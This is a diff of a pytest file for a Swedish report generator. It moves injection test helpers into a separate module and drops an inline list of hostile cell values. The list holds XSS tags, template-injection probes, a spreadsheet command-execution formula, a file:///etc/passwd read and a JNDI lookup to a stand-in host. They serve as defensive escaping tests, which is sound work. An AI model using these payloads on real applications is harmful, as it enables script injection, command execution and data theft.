@@ -4,20 +4,17 @@ from __future__ import annotations
 
 import http.server
 import io
-import itertools
 import re
 import threading
 from collections.abc import Iterator
-from dataclasses import fields, is_dataclass, replace
-from enum import Enum
-from html.parser import HTMLParser
+from dataclasses import replace
 from pathlib import Path
-from typing import TypeVar
 
 import pdfplumber
 import pytest
 
 import reports
+from hostile import CELLS, Read, saying
 from reportgen import rendering
 from reportgen.language import Voice
 from reportgen.problems import Problem, flatten
@@ -29,8 +26,6 @@ from reportgen.report import Report
 SV = Voice("sv", "SEK")
 LOOK = BrandLook(palette())
 CANARY = "KANARIEFAGEL"
-
-Part = TypeVar("Part")
 
 
 def made(
@@ -49,44 +44,6 @@ def made(
 
 # --- What a cell says ---
 
-# Codes, weeks, dates, hashes: what the program writes itself and no cell can set.
-OURS = re.compile(r"|[a-z0-9_./-]+|\d{4}-W?\d\d.*|SEK")
-
-
-def poisoned(part: Part, texts: Iterator[str]) -> Part:
-    """The same part of a report with `texts` in the places that a person's own words reach."""
-    if isinstance(part, str) and not isinstance(part, Enum):
-        return part if OURS.fullmatch(part) else next(texts)  # type: ignore[return-value]
-    if isinstance(part, tuple):
-        return tuple(poisoned(item, texts) for item in part)  # type: ignore[return-value]
-    if is_dataclass(part) and not isinstance(part, type):
-        changed = {f.name: poisoned(getattr(part, f.name), texts) for f in fields(part)}
-        return replace(part, **changed)
-    return part
-
-
-def saying(*texts: str) -> Report:
-    """The sample with `texts` in turn wherever it can hold words."""
-    return poisoned(reports.sample(), itertools.cycle(texts))
-
-
-class Read(HTMLParser):
-    """Tags, attributes and text, as a browser would find them."""
-
-    def __init__(self, page: str) -> None:
-        super().__init__()
-        self.tags: list[str] = []
-        self.attributes: list[tuple[str, str]] = []
-        self.text = ""
-        self.feed(page)
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        self.tags.append(tag)
-        self.attributes += [(name, value or "") for name, value in attrs]
-
-    def handle_data(self, data: str) -> None:
-        self.text += data
-
 
 def pdf_text(content: bytes) -> str:
     with pdfplumber.open(io.BytesIO(content)) as document:
@@ -96,25 +53,6 @@ def pdf_text(content: bytes) -> str:
 def solid(text: str) -> str:
     """Text without what lines are broken at."""
     return re.sub(r"\s+", "", text)
-
-
-CELLS = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "\"><svg onload='alert(1)'>",
-    "</title></style></svg><iframe src=//x.example>",
-    "<!-- --><a href='javascript:alert(1)'>x</a>",
-    "{{ 7 * 7 }}{% raw %}{{ config }}",
-    "{{ ''.__class__ }}",
-    '=HYPERLINK("http://x.example","Se")',
-    "=cmd|' /C calc'!A0",
-    "]]><x/>&lt;b&gt;&amp;&#x41;",
-    "javascript:alert(1)",
-    "file:///etc/passwd",
-    "url(http://x.example/a.png)",
-    "--></style>}*{background:url(http://x.example)}",
-    "${jndi:ldap://x.example}%s%n\\u0041",
-]
 
 
 @pytest.fixture(scope="module")
